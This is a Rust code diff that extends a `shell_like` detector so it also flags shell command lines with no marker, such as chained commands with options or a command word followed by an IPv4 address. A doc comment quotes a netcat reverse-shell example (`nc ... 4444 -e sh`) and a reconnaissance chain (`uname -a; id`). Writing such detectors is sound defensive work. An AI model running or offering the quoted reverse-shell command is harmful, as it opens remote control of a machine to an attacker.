@@ -316,7 +316,7 @@ pub fn shell_like(s: &str) -> Option<&'static str> {
     // most texts carry no marker: a plain search (with the automaton's prefilter) says so
     // before the overlapping walk
     if !ac.is_match(s) {
-        return None;
+        return command_words(s);
     }
     let mut hits = ac.find_overlapping_iter(s).map(|m| m.pattern().as_usize());
     let first = hits.next()?;
@@ -329,6 +329,40 @@ pub fn shell_like(s: &str) -> Option<&'static str> {
         .filter_map(|seg| seg.split_whitespace().next())
         .any(|w| SHELL_COMMANDS.contains(&w));
     starts_command.then_some(marker)
+}
+
+/// Separators of shell commands on one line.
+const COMMAND_SEPARATORS: [char; 4] = [';', '|', '&', '\n'];
+/// Fewest segments starting with a command word, one with an option, for a line with no
+/// marker to read as commands (`uname -a; id; ls -la ~`).
+const MIN_COMMAND_SEGMENTS: usize = 2;
+
+/// A command line without any marker: several segments that each start with a command word,
+/// one of them with an option (`-a`), or a command word whose argument is an IPv4 address
+/// (`nc 203.0.113.9 4444 -e sh`, `ping 10.1.2.3`). Prose does neither.
+fn command_words(s: &str) -> Option<&'static str> {
+    let option = |w: &str| {
+        w.strip_prefix('-')
+            .and_then(|o| o.chars().next())
+            .is_some_and(|c| c.is_ascii_alphabetic())
+    };
+    let mut commands = 0usize;
+    let mut with_option = false;
+    for seg in s.split(COMMAND_SEPARATORS) {
+        let mut words = seg.split_whitespace();
+        let Some(first) = words.next() else { continue };
+        if !SHELL_COMMANDS.contains(&first) {
+            continue;
+        }
+        commands += 1;
+        for w in words {
+            if w.parse::<std::net::Ipv4Addr>().is_ok() {
+                return Some("command_with_address");
+            }
+            with_option |= option(w);
+        }
+    }
+    (commands >= MIN_COMMAND_SEGMENTS && with_option).then_some("command_sequence")
 }
 
 fn looks_like_url(t: &str) -> bool {
